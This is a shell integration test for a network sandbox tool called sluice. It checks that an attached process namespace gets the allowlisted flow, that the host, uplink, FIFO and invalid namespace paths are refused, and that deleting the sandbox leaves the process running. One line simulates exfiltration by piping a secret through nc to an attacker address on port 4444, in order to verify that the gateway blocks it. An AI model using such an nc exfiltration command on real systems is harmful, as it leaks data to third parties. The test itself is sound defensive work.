#!/bin/bash
# 47-attach: a network namespace made outside sluice (a process started
# with `unshare -n`, as a container runtime would) is attached by
# /proc/PID/ns/net and governed like any sandbox; deleting the sandbox
# leaves the process and its namespace alone, only unplugged.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init attach
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

unshare -n sleep 60 &
holder=$!
echo "$holder" >> "$TB_DIR/pids"
sleep 0.2
ns="/proc/$holder/ns/net"
in_ns() { nsenter --net="$ns" "$@"; }

cat > "$TB_DIR/policy.json" <<EOF
{"sluice": {"allowedCidrs": ["192.0.2.10:443"]}}
EOF
out=$(tb_sluice sandbox add "${P}-ext" --netns "$ns" --policy "$TB_DIR/policy.json")
tb_assert_eq "$?" 0 "sandbox add --netns /proc/PID/ns/net"
tb_assert_match "$(in_ns ip -o -4 addr show dev eth0)" "10\.213\." "the process's namespace got eth0 and an address"
out=$(in_ns curl -s --max-time 5 --cacert "$TB_CA" --resolve "a.test:443:$TB_ADDR_HTTPS" https://a.test/)
tb_assert_eq "$out" "hello from a.test" "its allowed flow works"
echo attached-secret | in_ns nc -w 2 "$TB_ADDR_ATK" 4444 >/dev/null 2>&1
tb_check "its denied flow fails" [ $? != 0 ]
sleep 0.3
tb_assert_eq "$(tb_attacker_packet_count)" 0 "the attacker received nothing"
tb_wait_rows "SELECT count(*) FROM flows WHERE sandbox = '${P}-ext'" 2 >/dev/null
tb_assert_eq "$(tb_sql "SELECT verdict, reason FROM flows WHERE sandbox = '${P}-ext' ORDER BY id")" \
"allow|allowed_cidr
deny|not_allowlisted" "rows under the attached sandbox's name"

# the gateway's and the host's own namespaces are refused
tb_sluice sandbox add "${P}-bad" --netns /proc/self/ns/net --policy "$TB_DIR/policy.json" >/dev/null 2>&1
tb_assert_eq "$?" 1 "the host's namespace is refused"
tb_sluice sandbox add "${P}-bad" --netns /etc/hostname --policy "$TB_DIR/policy.json" >/dev/null 2>&1
tb_assert_eq "$?" 1 "a file that is no namespace is refused"
tb_sluice sandbox add "${P}-bad" --netns relative/path --policy "$TB_DIR/policy.json" >/dev/null 2>&1
tb_assert_eq "$?" 1 "a relative path is refused"
# the uplink's namespace too (its traffic would go through a sandbox's
# policy), by name and by a process in it (found by review, 2026-12-03)
tb_sluice sandbox add "${P}-bad" --netns "/run/netns/$TB_NETNS_INET" --policy "$TB_DIR/policy.json" >/dev/null 2>&1
tb_assert_eq "$?" 1 "the uplink's namespace is refused"
dpid=$(cat "$TB_DIR/dnsmasq.pid" 2>/dev/null)
if [ -n "$dpid" ]; then
	tb_sluice sandbox add "${P}-bad" --netns "/proc/$dpid/ns/net" --policy "$TB_DIR/policy.json" >/dev/null 2>&1
	tb_assert_eq "$?" 1 "the uplink's namespace through /proc/PID/ns/net is refused"
fi
tb_check "the uplink namespace got no eth0" bash -c "! ip -n '$TB_NETNS_INET' link show eth0 >/dev/null 2>&1"
# a FIFO is refused at once: an open of it would wait for a writer, with
# every verdict waiting too (found by review, 2026-12-03)
mkfifo "$TB_DIR/fifo"
timeout 5 "$SLUICE" -s "$TB_DIR/ctl.sock" sandbox add "${P}-fifo" --netns "$TB_DIR/fifo" \
    --policy "$TB_DIR/policy.json" >/dev/null 2>&1
tb_assert_eq "$?" 1 "a FIFO is refused, without waiting for a writer"
tb_check "and sluiced answers at once" timeout 2 "$SLUICE" -s "$TB_DIR/ctl.sock" status
tb_check "nothing was left of the refused ones" [ ! -e "/run/netns/${P}-bad" -a ! -e "/run/netns/${P}-fifo" ]

tb_check "sandbox del" tb_sluice sandbox del "${P}-ext"
tb_check "the process lives on" kill -0 "$holder"
tb_check "its namespace is unplugged (no eth0)" bash -c "! nsenter --net='$ns' ip link show eth0 >/dev/null 2>&1"
tb_check "and its name is gone" [ ! -e "/run/netns/${P}-ext" ]
kill "$holder" 2>/dev/null
tb_done
